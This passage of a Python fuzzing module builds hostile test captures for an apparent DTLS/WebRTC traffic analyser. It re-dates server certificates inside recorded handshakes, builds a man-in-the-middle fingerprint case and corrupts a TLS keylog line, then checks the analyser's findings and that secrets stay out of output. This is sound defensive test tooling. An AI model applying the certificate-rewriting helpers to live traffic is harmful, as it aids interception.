    _, th, tn = der_tlv(tbs, 0)
    fields = der_elements(tbs[th : th + tn])
    v = 4 if fields[0][0] == 0xA0 else 3  # [0] version, serialNumber, signature, issuer, validity
    _, vh, vn = der_tlv(fields[v], 0)
    not_before, _ = der_elements(fields[v][vh : vh + vn])
    fields[v] = der(0x30, not_before + der(0x18, when))
    return der(0x30, der(0x30, b"".join(fields)) + b"".join(rest))


def first_certificate(change: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    """A (D)TLS 1.2 Certificate message body with its first (end-entity) certificate rewritten."""

    def alter(body: bytes) -> bytes:
        n = int.from_bytes(body[3:6], "big")
        cert = change(body[6 : 6 + n])
        rest = body[6 + n :]
        return (3 + len(cert) + len(rest)).to_bytes(3, "big") + len(cert).to_bytes(3, "big") + cert + rest

    return alter


NO_EXPIRY = b"99991231235959Z"  # RFC 5280 §4.1.2.5: "no well-defined expiration date"


def _cert_no_expiry(out: Path, base: str, name: str, expect: tuple[str, ...]) -> Case:
    cap = Pcap.of_sample(base, out)
    a, _, sp, _ = alter_handshake_message(cap, 11, first_certificate(lambda c: with_not_after(c, NO_EXPIRY)))
    return Case(
        name,
        cap.write(out / f"{name}.pcap"),
        base,
        f"the certificate sent by {ipaddress.ip_address(a)}:{sp} re-dated to expire 9999-12-31 (RFC 5280's "
        "'no expiry'; its fingerprint no longer matches)",
        expect_slugs=expect,
        same_hosts=True,
    )


@generator
def dtls_cert_no_expiry(out: Path, scale: int) -> Case:
    """The weak-DTLS call (openssl, DTLS 1.0 and 1.2) with the server certificate of its first handshake
    (fragmented over four datagrams) re-dated to expire 9999-12-31 (GeneralizedTime, 2 bytes longer)."""
    return _cert_no_expiry(out, "weak_dtls", "dtls_cert_no_expiry", ("dtls-cert-weak",))


@generator
def dtls_cert_no_expiry_mitm(out: Path, scale: int) -> Case:
    """The MITM call with the first certificate on the wire re-dated to 9999-12-31: the fingerprint mismatch
    (DTLS001) must stay."""
    return _cert_no_expiry(
        out, "fingerprint_rewrite", "dtls_cert_no_expiry_mitm", ("dtls-fingerprint-mismatch",)
    )


@generator
def keylog_unknown_label(out: Path, scale: int) -> Case:
    """The clean call's own keylog with one line's label altered: its contents must reach no output."""
    src = (SAMPLES / "clean_call.keylog").read_text().splitlines()
    k = next(j for j, ln in enumerate(src) if ln.strip() and not ln.startswith("#"))
    label, rnd, sec = src[k].split()
    src[k] = f"{label}X{sec[:24]} {rnd} {sec}"
    kl = out / "keylog_unknown_label.keylog"
    kl.write_text("\n".join(src) + "\n")
    path = out / "keylog_unknown_label.pcapng"
    shutil.copy(SAMPLES / "clean_call.pcapng", path)
    return Case(
        "keylog_unknown_label",
        path,
        "clean_call",
        "a keylog line with an unknown label",
        args=["--keylog", str(kl)],
        secrets=(sec, sec[:24], rnd),
    )


def build(out: Path, scale: int = 1, names: list[str] | None = None) -> list[Case]:
    out.mkdir(parents=True, exist_ok=True)
    return [GENERATORS[n](out, scale) for n in (names or list(GENERATORS))]


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m fuzz.hostile", description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", required=True, type=Path)
    ap.add_argument("--scale", type=int, default=int(os.environ.get("RTCF_HOSTILE_SCALE", "1")))
    ap.add_argument("names", nargs="*", metavar="NAME", help=", ".join(GENERATORS))
    a = ap.parse_args(argv)
    if [n for n in a.names if n not in GENERATORS]:
        ap.error(f"generators: {', '.join(GENERATORS)}")
    for c in build(a.out, a.scale, a.names or None):
        print(f"{c.name}: {c.path} ({c.path.stat().st_size} bytes) — {c.how}")
    return 0


if __name__ == "__main__":
    sys.exit(main())


__all__: list[Any] = ["GENERATORS", "Case", "Pcap", "build"]
